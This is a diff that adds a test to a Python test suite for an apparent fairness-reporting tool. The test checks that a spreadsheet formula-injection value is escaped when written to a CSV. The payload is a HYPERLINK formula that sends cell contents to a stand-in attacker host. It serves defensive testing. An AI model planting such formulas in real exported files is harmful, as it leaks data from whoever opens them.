@@ -124,3 +124,10 @@ def test_a_table_that_cannot_be_made_says_why_and_ends_nothing(run, posts, tmp_p
     table = people_tables(replace(run, predictions=nobody), posts)["hatexplain_protocol"]
     assert table.columns.tolist() == ["not made"]
     assert "unsure" in table["not made"][0]
+
+
+def test_a_community_that_a_spreadsheet_would_run_is_quoted_in_the_table(run, posts, tmp_path):
+    link = '=HYPERLINK("http://evil.example/"&A1,"x")'
+    odd = tuple(replace(i, example=replace(i.example, tags=frozenset({link}))) for i in run.items)
+    write_run(replace(run, items=odd), posts, tmp_path)
+    assert f"'{link}" in pd.read_csv(tmp_path / "fairness.csv").community.tolist()
